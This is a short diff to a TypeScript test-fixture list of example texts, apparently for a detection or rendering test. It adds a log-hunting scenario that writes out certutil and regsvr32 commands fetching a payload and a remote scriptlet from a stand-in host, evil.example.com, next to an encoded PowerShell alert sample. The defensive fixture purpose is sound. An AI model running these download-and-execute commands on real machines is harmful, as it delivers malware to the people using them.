@@ -40,6 +40,21 @@ const SHOWN: readonly (readonly [string, Example])[] = [
     'a form that shows what an alert said',
     '```\nAlert:       Suspicious PowerShell\nHost:        WS-042\nUser:        jsmith\nProcess:     powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\n```\n',
   ],
+  [
+    'what attackers use a command for, below its name',
+    about(
+      'Hunting for abuse of system programs in logs.',
+      '## Scenarios\n\n1. **Certutil download**: Adversary uses `certutil.exe -urlcache -split -f http://evil.example.com/p.exe` to download malware.\n2. **Regsvr32 squiblydoo**: `regsvr32 /s /n /u /i:http://evil.example.com/f.sct scrobj.dll` executing remote scripts.\n',
+    ),
+  ],
+  [
+    'a table of names and properties',
+    {
+      'SKILL.md': 'Look a style up in `styles.csv`.\n',
+      'styles.csv':
+        'n,style\n1,"Chatbot, conversational, voice, assistant, agentic, ambient, minimal chrome, streaming text, AI interactions"\n',
+    },
+  ],
   ['what others do', '- Malware and insiders can disable Defender; watch for UAC bypass techniques.\n'],
   ['what a setting does', 'There are four settings that override any policy or rule of the bucket.\n'],
 ]
